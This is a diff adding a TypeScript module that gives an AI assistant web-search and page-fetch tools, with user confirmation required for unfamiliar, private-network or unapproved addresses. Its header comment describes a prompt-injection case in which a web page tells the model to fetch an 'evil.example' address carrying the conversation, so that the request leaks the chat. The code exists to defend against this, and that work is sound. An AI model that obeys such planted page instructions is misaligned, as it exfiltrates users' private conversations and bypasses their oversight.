@@ -1,0 +1,124 @@
+/**
+ * Gloss's own tools as a `ToolSource`, one per answer while its chat's "Search the web" is on:
+ * `web_search` (the engine chosen in Settings → Web) and `fetch_url` (a page's readable text).
+ * What they bring back is the web's: the loop fences it as untrusted data like any tool result.
+ *
+ * `fetch_url` runs without asking only for an address the user wrote or added in the chat
+ * (`given-urls.ts`) or one this answer's searches found. Any other address asks first and
+ * shows it whole: a page the model read may tell it to fetch `https://evil.example/?q=<the
+ * conversation>`, and that request is the leak. An address on this computer or a private
+ * network asks too (the user's Allow is what lets the reader go there), and so does a site
+ * Gloss has no access to yet: the Allow click is the gesture the browser needs to grant it.
+ */
+import { t } from '../../shared/i18n';
+import { originPattern } from '../../shared/settings';
+import { glossPolicy, type GlossTool, type ToolPolicy } from '../../shared/tools/tool-settings';
+import { privateAddress } from '../../shared/web/private-address';
+import type { AskFirst, OfferedTool, ToolOutcome, ToolSource } from '../tools/tool-source';
+import { addressKey } from './given-urls';
+import type { PageReading } from './read-page';
+import { WebSources } from './web-sources';
+import type { Searched } from './web-search';
+
+/** The most of one page's text sent to the model (about 6,000 tokens). */
+export const PAGE_CHARS = 24_000;
+
+export interface GlossToolsDeps {
+  policies: Partial<Record<GlossTool, ToolPolicy>>;
+  /** Addresses the user gave in this chat (`givenAddresses`). */
+  given: ReadonlySet<string>;
+  search: (query: string, signal: AbortSignal) => Promise<Searched>;
+  read: (
+    url: string,
+    options: { signal: AbortSignal; maxChars: number; allowedPrivate?: (origin: string) => boolean },
+  ) => Promise<PageReading>;
+  /** Whether the worker may read `pattern` (`https://host/*`) now. */
+  hasAccess: (pattern: string) => Promise<boolean>;
+}
+
+const SPECS: Record<GlossTool, Pick<OfferedTool, 'description' | 'parameters'>> = {
+  web_search: {
+    description:
+      'Search the web. Returns numbered results (title, address, snippet). Cite what you use by its number, like [1].',
+    parameters: {
+      type: 'object',
+      properties: { query: { type: 'string', description: 'What to search for, in a few words.' } },
+      required: ['query'],
+    },
+  },
+  fetch_url: {
+    description:
+      "Read a web page or PDF at an http(s) address and return its readable text with its source number. Use it on search results' addresses.",
+    parameters: {
+      type: 'object',
+      properties: { url: { type: 'string', description: 'The full http(s) address.' } },
+      required: ['url'],
+    },
+  },
+};
+
+export class GlossTools implements ToolSource {
+  /** Every search result and page read in this answer, numbered for citing. */
+  readonly sources = new WebSources();
+  /** Private addresses the user allowed on a call that asked (`asksFirst`). */
+  private readonly allowedPrivate = new Set<string>();
+
+  constructor(private readonly deps: GlossToolsDeps) {}
+
+  offered(): Promise<OfferedTool[]> {
+    return Promise.resolve(
+      (Object.keys(SPECS) as GlossTool[]).map((tool) => ({
+        source: 'Gloss',
+        tool,
+        ...SPECS[tool],
+        policy: glossPolicy(this.deps.policies, tool),
+      })),
+    );
+  }
+
+  async asksFirst(tool: OfferedTool, args: Record<string, unknown>): Promise<AskFirst | undefined> {
+    if (tool.tool !== 'fetch_url' || typeof args.url !== 'string') return undefined;
+    const key = addressKey(args.url);
+    const pattern = originPattern(args.url);
+    if (!key || !pattern) return undefined; // not http(s): the call says so, nothing is fetched
+    const given = this.deps.given.has(key);
+    const access = (await this.deps.hasAccess(pattern).catch(() => false)) ? undefined : pattern;
+    const withAccess = access ? { access } : {};
+    if (privateAddress(key) !== undefined && !given) {
+      this.allowedPrivate.add(new URL(key).origin);
+      return { because: t('webAsksPrivate', key), ...withAccess };
+    }
+    if (!given && !this.sources.found(key)) return { because: t('webAsksAddress', key), ...withAccess };
+    return access ? { because: t('webAsksAccess', new URL(key).host), access } : undefined;
+  }
+
+  async call(tool: OfferedTool, args: Record<string, unknown>, signal: AbortSignal, timeoutMs: number) {
+    const within = AbortSignal.any([signal, AbortSignal.timeout(timeoutMs)]);
+    if (tool.tool === 'web_search') return this.search(args, within);
+    if (tool.tool === 'fetch_url') return this.fetch(args, within);
+    return { isError: true, text: t('stepUnknownTool', tool.tool) };
+  }
+
+  private async search(args: Record<string, unknown>, signal: AbortSignal): Promise<ToolOutcome> {
+    const query = typeof args.query === 'string' ? args.query.trim() : '';
+    if (!query) return { isError: true, text: t('webNoQuery') };
+    const found = await this.deps.search(query, signal);
+    if ('problem' in found) return { isError: true, text: found.problem };
+    return { isError: false, ...this.sources.addResults(query, found.results) };
+  }
+
+  private async fetch(args: Record<string, unknown>, signal: AbortSignal): Promise<ToolOutcome> {
+    const raw = typeof args.url === 'string' ? args.url : '';
+    const key = addressKey(raw);
+    if (!key) return { isError: true, text: t('webBadAddress', raw.slice(0, 200)) };
+    // The user's own private address opens its own origin only: a redirect elsewhere is refused.
+    const own = this.deps.given.has(key) ? new URL(key).origin : undefined;
+    const read = await this.deps.read(key, {
+      signal,
+      maxChars: PAGE_CHARS,
+      allowedPrivate: (origin) => origin === own || this.allowedPrivate.has(origin),
+    });
+    if ('problem' in read) return { isError: true, text: read.problem };
+    return { isError: false, ...this.sources.addPage(read.page), ...(read.page.cut ? { cut: read.page.cut } : {}) };
+  }
+}
